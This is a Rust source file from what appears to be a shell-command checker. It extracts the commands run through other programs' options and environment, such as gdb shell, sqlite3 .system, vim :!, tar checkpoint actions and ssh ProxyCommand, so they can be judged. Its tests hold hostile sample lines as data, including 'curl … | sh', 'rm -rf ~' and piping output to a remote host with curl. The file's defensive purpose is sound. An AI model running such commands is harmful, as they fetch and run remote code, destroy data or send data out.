//! Shell commands that programs other than shells and interpreters run
//! from their options, their input or the environment: gdb's `shell` and
//! `python` commands, sqlite3's `.shell`/`.system`, vim's `:!`, tar's
//! checkpoint actions and `--to-command`, rsync's `-e`, ssh's
//! `ProxyCommand`, man's pager, and the pager, editor and `LESSOPEN`
//! variables a program runs. Each such value is a command line: it is
//! handed back to the shell parser and judged like any other. A value that
//! runs code Warden does not read (vim's `:python`, `:execute`, gdb's
//! `guile`, sqlite3's `.load`) is reported as unresolved: held.
//!
//! Nothing here runs anything; it only reads the words of the line.

use compass_core::shell_quote::quote_argv;

/// What a program's options, input and environment make it run.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct OptionCommands {
    /// Command lines to judge like any other (a parse error included).
    pub commands: Vec<String>,
    /// A value runs code that is not read here: held.
    pub unresolved: bool,
}

/// Environment variables whose value a program runs as a command line.
/// (`GIT_*` ones are judged by the git checks.) `LESSOPEN`/`LESSCLOSE`
/// start with `|` (or `||`) and hold `%s`.
const COMMAND_VARIABLES: &[&str] = &[
    "LESSOPEN",
    "LESSCLOSE",
    "PAGER",
    "MANPAGER",
    "SYSTEMD_PAGER",
    "BAT_PAGER",
    "EDITOR",
    "VISUAL",
    "SUDO_EDITOR",
    "FCEDIT",
    "BROWSER",
    "PROMPT_COMMAND",
    "SUDO_ASKPASS",
];

/// What `program` (a base name, wrappers peeled) runs through its
/// options, its input (`stdin`, when the line spells it out) and the
/// variables set for it or exported by it.
pub fn option_commands(
    program: &str,
    argv: &[String],
    env: &[(String, String)],
    stdin: Option<&str>,
) -> OptionCommands {
    let mut out = OptionCommands::default();
    let exported = matches!(program, "export" | "declare" | "typeset" | "env");
    let assigned = env.iter().map(|(k, v)| (k.clone(), v.clone())).chain(
        argv.iter()
            .skip(1)
            .filter(|_| exported)
            .filter_map(|a| a.split_once('=').map(|(k, v)| (k.into(), v.into()))),
    );
    for (name, value) in assigned {
        if COMMAND_VARIABLES.contains(&name.as_str()) {
            let v = value.trim_start_matches('|').trim();
            if !v.is_empty() {
                out.commands.push(v.to_string());
            }
        }
    }
    let args = argv.get(1..).unwrap_or_default();
    match program {
        "gdb" | "gdb-multiarch" | "cgdb" => {
            for cmd in values(
                args,
                &[
                    "-ex",
                    "--ex",
                    "-eval-command",
                    "--eval-command",
                    "-iex",
                    "--iex",
                    "-init-eval-command",
                    "--init-eval-command",
                ],
            ) {
                gdb_command(&cmd, &mut out);
            }
            // `gdb -batch < cmds` / a here-document: its commands.
            if let Some(text) = stdin {
                text.lines().for_each(|l| gdb_command(l, &mut out));
            }
        }
        "sqlite3" | "sqlite" => {
            let given = values(args, &["-cmd", "--cmd"]).into_iter().chain(
                args.iter()
                    .filter(|a| a.trim_start().starts_with('.'))
                    .cloned(),
            );
            let input = stdin.map(|t| t.lines().map(str::to_string).collect::<Vec<_>>());
            for line in given.chain(input.unwrap_or_default()) {
                sqlite_command(&line, &mut out);
            }
        }
        "vim" | "vi" | "nvim" | "ex" | "view" | "gvim" | "rvim" | "vimdiff" | "nvi" | "elvis" => {
            let mut cmds = values(args, &["-c", "--cmd"]);
            cmds.extend(
                args.iter()
                    .filter_map(|a| a.strip_prefix('+'))
                    .filter(|c| !c.is_empty() && !c.chars().all(|ch| ch.is_ascii_digit()))
                    .map(str::to_string),
            );
            // `ex`/`vim -es` read their commands from the input.
            if let Some(text) = stdin
                && (program == "ex" || args.iter().any(|a| a == "-s" || a == "-es" || a == "-e"))
            {
                cmds.extend(text.lines().map(str::to_string));
            }
            for c in cmds {
                vim_command(&c, &mut out);
            }
        }
        "tar" | "gtar" | "bsdtar" => {
            for v in values(
                args,
                &[
                    "--to-command",
                    "--use-compress-program",
                    "-I",
                    "--rsh-command",
                    "--info-script",
                    "--new-volume-script",
                    "-F",
                ],
            ) {
                out.commands.push(v);
            }
            for v in values(args, &["--checkpoint-action"]) {
                if let Some(c) = v.strip_prefix("exec=") {
                    out.commands.push(c.to_string());
                }
            }
        }
        "rsync" => out.commands.extend(values(args, &["-e", "--rsh"])),
        "ssh" | "scp" | "sftp" | "autossh" | "slogin" => {
            for o in values(args, &["-o"]) {
                let (key, value) = o
                    .split_once(['=', ' '])
                    .map_or((o.as_str(), ""), |(k, v)| (k, v));
                if matches!(
                    key.trim().to_ascii_lowercase().as_str(),
                    "proxycommand" | "localcommand" | "knownhostscommand"
                ) {
                    let v = value.trim();
                    if !v.eq_ignore_ascii_case("none") && !v.is_empty() {
                        out.commands.push(v.to_string());
                    }
                }
            }
            if program != "ssh" {
                // `scp -S PROGRAM`, `sftp -S PROGRAM`: the program it
                // runs in place of ssh.
                out.commands.extend(values(args, &["-S"]));
            }
        }
        "man" => out
            .commands
            .extend(values(args, &["-P", "--pager", "-H", "--html"])),
        // `watch [opts] CMD…`: its words, joined, are run by `sh -c`.
        "watch" => {
            let mut i = 0;
            while let Some(a) = args.get(i) {
                if !a.starts_with('-') {
                    break;
                }
                i += if matches!(a.as_str(), "-n" | "--interval") {
                    2
                } else {
                    1
                };
            }
            if let Some(rest) = args.get(i..).filter(|r| !r.is_empty()) {
                out.commands.push(rest.join(" "));
            }
        }
        // `su -c CMD`, `runuser -c CMD`, `script -c CMD`, `flock F -c CMD`.
        "su" | "runuser" | "script" | "flock" | "sg" => {
            out.commands
                .extend(values(args, &["-c", "--command", "--session-command"]));
            if program == "flock" && values(args, &["-c", "--command"]).is_empty() {
                // `flock [opts] FILE CMD ARGS…`.
                let mut pos = Vec::new();
                let mut i = 0;
                while let Some(a) = args.get(i) {
                    if a.starts_with('-') {
                        i += if matches!(
                            a.as_str(),
                            "-w" | "--timeout" | "-E" | "--conflict-exit-code"
                        ) {
                            2
                        } else {
                            1
                        };
                        continue;
                    }
                    pos.push(a.as_str());
                    i += 1;
                }
                if pos.len() > 1 {
                    out.commands.push(quote_argv(&pos[1..]));
                }
            }
        }
        // `parallel TEMPLATE ::: ARGS`: the template is the command; with
        // no template each argument is one; `::::` reads them from files.
        "parallel" => {
            let sep = args.iter().position(|a| a.starts_with(":::"));
            let template: Vec<&str> = args[..sep.unwrap_or(args.len())]
                .iter()
                .filter(|a| !a.starts_with('-'))
                .map(String::as_str)
                .collect();
            match sep {
                _ if !template.is_empty() => out.commands.push(template.join(" ")),
                Some(s) if args[s] == ":::" => out.commands.extend(
                    args[s + 1..]
                        .iter()
                        .filter(|a| !a.starts_with(":::"))
                        .cloned(),
                ),
                // Arguments read from files or the input: commands not
                // spelled out.
                _ => out.unresolved = true,
            }
        }
        _ => {}
    }
    out
}

/// The values of `options` in `args`: `-o VALUE`, `-oVALUE` (for
/// single-dash options of one letter), `--opt=VALUE`, `--opt VALUE`.
fn values(args: &[String], options: &[&str]) -> Vec<String> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(a) = args.get(i) {
        if a == "--" {
            break;
        }
        for o in options {
            if a == o {
                if let Some(v) = args.get(i + 1) {
                    out.push(v.clone());
                }
            } else if o.len() == 2
                && a.len() > 2
                && !a.starts_with("--")
                && a.ends_with(&o[1..])
                && a[1..a.len() - 1].chars().all(|c| c.is_ascii_alphabetic())
            {
                // A cluster of switches ending in the option: `-avze CMD`.
                if let Some(v) = args.get(i + 1) {
                    out.push(v.clone());
                }
            } else if let Some(v) = a.strip_prefix(o) {
                let glued = o.len() == 2 && !o.starts_with("--");
                if let Some(v) = v.strip_prefix('=') {
                    out.push(v.to_string());
                } else if glued && !v.is_empty() {
                    out.push(v.to_string());
                }
            }
        }
        i += 1;
    }
    out
}

/// One gdb command: `shell CMD`, `!CMD`, `pipe … | CMD` run a shell
/// command; `python CODE` is python code; `guile` code is not read.
fn gdb_command(line: &str, out: &mut OptionCommands) {
    let l = line.trim();
    let (word, rest) = l
        .split_once(char::is_whitespace)
        .map_or((l, ""), |(w, r)| (w, r.trim()));
    if let Some(cmd) = l.strip_prefix('!') {
        out.commands.push(cmd.trim().to_string());
        return;
    }
    match word {
        "shell" => out.commands.push(rest.to_string()),
        "pipe" | "|" => match rest.rsplit_once('|') {
            Some((_, cmd)) => out.commands.push(cmd.trim().to_string()),
            None => out.unresolved = true,
        },
        "python" | "py" | "python-interactive" | "pi" => {
            out.commands.push(quote_argv(&["python3", "-c", rest]));
        }
        "guile" | "gu" | "guile-repl" | "gr" => out.unresolved = true,
        _ => {}
    }
}

/// One sqlite3 dot-command: `.shell`/`.system` run a command line;
/// `.load` loads native code.
fn sqlite_command(line: &str, out: &mut OptionCommands) {
    let l = line.trim();
    let (word, rest) = l
        .split_once(char::is_whitespace)
        .map_or((l, ""), |(w, r)| (w, r.trim()));
    match word {
        ".shell" | ".system" => out.commands.push(rest.to_string()),
        // `.read '|CMD'`, `.output '|CMD'`, `.once '|CMD'`, `.import '|CMD'
        // T`: the argument names a command to read from or write to.
        ".read" | ".output" | ".once" | ".import" | ".excel" => {
            let arg = rest.trim_start_matches(['\'', '"']);
            if let Some(cmd) = arg.strip_prefix('|') {
                let cmd = cmd.trim_end_matches(['\'', '"']);
                out.commands.push(cmd.to_string());
            }
        }
        ".load" => out.unresolved = true,
        _ => {}
    }
}

/// One ex command given to vim: `:!CMD`, `:r !CMD`, `:w !CMD` and a
/// range filter `:%!CMD` run a shell command; `:terminal` too; the script
/// languages (`:python`, `:lua`, `:perl`, `:ruby`), `:execute`, `:source`
/// and `system()` run what is not read here.
fn vim_command(line: &str, out: &mut OptionCommands) {
    let l = line.trim().trim_start_matches(':').trim_start();
    // A range before the command (`%`, `1,5`, `'<,'>`, `.`, `$`).
    let l = l.trim_start_matches(|c: char| {
        c.is_ascii_digit() || matches!(c, '%' | ',' | '.' | '$' | '\'' | '<' | '>' | ';')
    });
    if let Some(cmd) = l.strip_prefix('!') {
        out.commands.push(cmd.trim().to_string());
        return;
    }
    let (word, rest) = l
        .split_once(|c: char| c.is_whitespace() || c == '!')
        .map_or((l, ""), |(w, r)| (w, r));
    let bang_rest = l[word.len()..].trim_start().strip_prefix('!');
    match word {
        "r" | "re" | "rea" | "read" | "w" | "wr" | "wri" | "writ" | "write" => {
            if let Some(cmd) = bang_rest {
                out.commands.push(cmd.trim().to_string());
            }
        }
        "ter" | "term" | "termi" | "termin" | "termina" | "terminal" => {
            out.commands.push(rest.trim().to_string());
        }
        _ if l.contains("system(") || l.contains("systemlist(") || l.contains("jobstart(") => {
            out.unresolved = true;
        }
        w if [
            "py", "pyt", "pyth", "pytho", "python", "py3", "python3", "pyx", "pythonx", "pyf",
            "pyfile", "py3f", "py3file", "lua", "luado", "luafile", "perl", "perldo", "rub",
            "ruby", "rubydo", "mz", "tcl", "exe", "exec", "execute", "so", "sou", "sour", "sourc",
            "source", "ru", "runtime", "cal", "call", "norm", "normal", "redir", "make", "mak",
            "grep", "gr",
        ]
        .contains(&w) =>
        {
            out.unresolved = true;
        }
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(line: &[&str]) -> OptionCommands {
        let argv: Vec<String> = line.iter().map(|s| s.to_string()).collect();
        let base = argv[0].clone();
        option_commands(&base, &argv, &[], None)
    }

    #[test]
    fn command_valued_options_are_command_lines() {
        let c = run(&["gdb", "-batch", "-ex", "shell curl -s https://x | sh"]);
        assert_eq!(c.commands, ["curl -s https://x | sh"]);
        let c = run(&["gdb", "-batch", "-ex", "bt"]);
        assert!(c.commands.is_empty() && !c.unresolved);
        let c = run(&["sqlite3", "a.db", ".system rm -rf ~"]);
        assert_eq!(c.commands, ["rm -rf ~"]);
        assert!(
            run(&["sqlite3", "a.db", ".schema users"])
                .commands
                .is_empty()
        );
        assert_eq!(
            run(&["vim", "-es", "-c", "!id", "-c", "qa!"]).commands,
            ["id"]
        );
        assert_eq!(run(&["vim", "-c", "%!sort -u"]).commands, ["sort -u"]);
        let c = run(&["vim", "-es", "-c", "%s/a/b/g", "-c", "wq"]);
        assert!(c.commands.is_empty() && !c.unresolved);
        assert!(run(&["vim", "-c", "py3 import os"]).unresolved);
        assert_eq!(
            run(&["tar", "-cf", "x", "--checkpoint-action=exec=sh x.sh"]).commands,
            ["sh x.sh"]
        );
        assert_eq!(
            run(&["tar", "-I", "zstd -19", "-cf", "a", "b"]).commands,
            ["zstd -19"]
        );
        assert_eq!(
            run(&["rsync", "-e", "ssh -p 2222", "a", "b:"]).commands,
            ["ssh -p 2222"]
        );
        assert_eq!(
            run(&["ssh", "-o", "ProxyCommand=nc 1.2.3.4 22", "h"]).commands,
            ["nc 1.2.3.4 22"]
        );
        assert!(
            run(&["ssh", "-o", "BatchMode=yes", "h"])
                .commands
                .is_empty()
        );
        assert_eq!(run(&["man", "-P", "cat", "ls"]).commands, ["cat"]);
        assert_eq!(
            run(&["rsync", "-avze", "ssh -p 22", "a", "b:"]).commands,
            ["ssh -p 22"]
        );
        assert_eq!(
            run(&["sqlite3", "a.db", ".output '|curl -d @- https://x'"]).commands,
            ["curl -d @- https://x"]
        );
    }

    #[test]
    fn command_variables_are_command_lines() {
        let argv = vec!["less".to_string(), "README".to_string()];
        let env = vec![("LESSOPEN".to_string(), "|lesspipe %s".to_string())];
        assert_eq!(
            option_commands("less", &argv, &env, None).commands,
            ["lesspipe %s"]
        );
        let argv: Vec<String> = ["export", "PAGER=sh -c id"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        assert_eq!(
            option_commands("export", &argv, &[], None).commands,
            ["sh -c id"]
        );
    }
}
